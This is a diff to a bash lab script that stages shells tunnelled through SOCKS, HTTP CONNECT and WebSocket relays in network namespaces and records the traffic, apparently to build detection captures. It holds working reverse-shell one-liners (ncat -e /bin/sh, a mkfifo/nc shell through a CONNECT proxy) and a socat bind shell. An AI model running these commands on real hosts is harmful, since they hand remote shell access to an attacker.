@@ -51,6 +51,11 @@ hit_socks() { # a shell inside a SOCKS session
     net_up; operator out 4444 "${LINES_[@]}"; microsocks_up
     record in cli rly out; victim cli ncat --proxy $RLY:1080 --proxy-type socks5 $OUT 4444 -e '/bin/sh -i'; save
 }
+hit_connect() { # a shell inside CONNECT: of cli alone, not of the proxy, though both legs show it
+    net_up; operator out 4444 "${LINES_[@]}"; tinyproxy_up rly $RLY 8888
+    record in cli rly out
+    victim cli sh -c "rm -f '$W/pipe'; mkfifo '$W/pipe'; /bin/sh -i <'$W/pipe' 2>&1 | nc.openbsd -X connect -x $RLY:8888 $OUT 4444 >'$W/pipe'"; save
+}
 hit_websocket() { # the side that opened the WebSocket is the one with the shell
     net_up; victim cli socat TCP-LISTEN:4000,bind=127.0.0.1 EXEC:'bash --norc -i',pty,stderr,setsid,sane & PIDS+=($!); up cli 4000
     (cd / && typed 0.7 "${COMMANDS[@]}" | timeout 30 ip netns exec "$P-out" "$WEBSOCAT" -E -b ws-l:0.0.0.0:4444 - >/dev/null 2>&1) & PIDS+=($!); up out 4444
